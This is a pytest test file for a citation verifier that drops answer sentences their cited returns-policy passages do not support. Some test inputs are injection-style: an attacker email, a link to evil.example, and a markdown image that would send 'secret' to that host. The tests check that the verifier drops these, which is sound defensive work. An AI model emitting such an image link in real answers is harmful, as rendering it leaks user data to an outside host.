"""Of a written answer what its citations bear out is kept, and the rest goes with a reason."""

from collections.abc import Sequence

import pytest

from ingest.index.documents import DocumentKind
from server.answering.answer import AnswerSentence, Citation
from server.answering.verification.verify import Verified, verify

PASSAGES = {
    1: "An unopened filter can be returned within 30 days. Write to returns@shop.example.",
    2: "The restocking fee for opened kits is £5.",
}


def issued(number: int) -> Citation:
    return Citation(
        number=number,
        document=f"document {number}",
        version="v",
        path="returns.md",
        title="Returns policy",
        section="Filters",
        kind=DocumentKind.POLICY,
        owner=None,
        start=0,
        end=len(PASSAGES[number]),
        quote=PASSAGES[number],
        url="",
        in_force_from=None,
        in_force_to=None,
        verified_at=None,
        is_internal=False,
        page=None,
    )


def verified(text: str, *numbers: int, alike: float | None = None) -> Verified:
    likeness = None if alike is None else lambda _said, _source: alike
    return verify([AnswerSentence(text, numbers)], [issued(1), issued(2)], PASSAGES, likeness)


def kept(text: str, *numbers: int) -> Sequence[AnswerSentence]:
    return verified(text, *numbers).sentences


def reason(text: str, *numbers: int) -> str:
    (dropped,) = verified(text, *numbers).dropped
    return dropped.reason


def test_what_follows_is_kept_in_order() -> None:
    sentences = [AnswerSentence("The fee is £5.", (2,)), AnswerSentence("You have thirty days to return it.", (1,))]
    assert verify(sentences, [issued(1), issued(2)], PASSAGES) == Verified(tuple(sentences), ())


def test_numbers_in_the_text_are_citations() -> None:
    assert kept("The restocking fee is £5 [2].") == (AnswerSentence("The restocking fee is £5.", (2,)),)


@pytest.mark.parametrize(
    ("text", "numbers", "why"),
    [
        ("You have 30 days.", (), "It cites no passage."),
        ("You have 30 days.", (7,), "It cites [7], which is none of the passages found."),
        ("You have 30 days [7].", (1,), "It cites [7], which is none of the passages found."),
        ("You have 45 days to return the filter.", (1,), "does not say 45 days here; it says 30 days."),
        ("You have 30 days to return the filter.", (2,), "does not say 30 days here"),
        ("It says: “returned within 45 days”.", (1,), "does not have the quoted words “returned within 45 days”"),
        ("An unopened filter cannot be returned.", (1,), "says the opposite of “cannot”"),
        ("Write to win@evil.example about the filter.", (1,), "does not name win@evil.example here"),
        ("A filter can be [returned](https://evil.example).", (1,), "links to https://evil.example"),
        ("![x](https://evil.example/?q=secret)", (1,), "links to https://evil.example/?q=secret"),
        ("A hotel stay is included.", (1,), "does not speak of this"),
        (
            "An unopened filter can be returned within 30 days, and hotel stays with breakfast are included.",
            (1,),
            "does not say: hotel",
        ),
    ],
)
def test_what_does_not_follow_is_dropped_with_a_reason(text: str, numbers: tuple[int, ...], why: str) -> None:
    assert kept(text, *numbers) == ()
    assert why in reason(text, *numbers)


def test_markup_is_taken_off_what_is_kept() -> None:
    assert kept("**An unopened filter** can be returned within <b>30 days</b>.", 1)[0].text == (
        "An unopened filter can be returned within 30 days."
    )


def test_title_and_section_belong_to_the_passage() -> None:
    assert kept("By the Returns policy the fee is £5.", 2)


def test_without_its_passage_a_citation_speaks_by_its_quote() -> None:
    answer = verify([AnswerSentence("The restocking fee is £5.", (2,))], [issued(2)], {})
    assert len(answer.sentences) == 1


def test_likeness_lets_other_words_pass_but_no_other_figures() -> None:
    text = "Sealed filter cartridges are returned happily."
    assert verified(text, 1).dropped
    assert not verified(text, 1, alike=0.9).dropped
    assert verified(text, 1, alike=0.1).dropped
    assert verified("Sealed filter cartridges are returned for 45 days.", 1, alike=0.9).dropped


def test_nothing_is_kept_of_nothing() -> None:
    assert verify([AnswerSentence(" ", (1,))], [issued(1)], PASSAGES) == Verified((), ())
